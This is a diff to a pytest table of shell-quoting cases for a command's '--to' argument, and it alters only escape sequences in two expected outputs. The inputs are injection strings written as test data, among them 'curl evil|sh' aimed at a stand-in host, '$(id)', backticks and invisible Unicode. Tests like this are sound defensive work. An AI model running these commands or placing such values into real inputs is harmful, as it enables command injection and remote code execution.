@@ -79,8 +79,8 @@ def test_a_dead_letter_is_shown_as_what_it_is_and_where_it_came_from(tmp_path: P
         ("2026-11-25 02:00", "--to '2026-11-25 02:00'"),
         ("earliest; curl evil|sh #", "--to 'earliest; curl evil|sh #'"),
         ("$(id) `id` 'x' \\", """--to '$(id) `id` '"'"'x'"'"' \\'"""),
-        ("it's\\\u202e\x03x", r"--to $'it\u0027s\u005c\u202e\u0003x'"),
-        ("x'; echo more #\u200b", r"--to $'x\u0027; echo more #\u200b'"),
+        ("it's\\\u202e\x03x", r"--to $'it\x27s\x5c\u202e\u0003x'"),
+        ("x'; echo more #\u200b", r"--to $'x\x27; echo more #\u200b'"),
     ],
 )
 @pytest.mark.suite(cases=2)
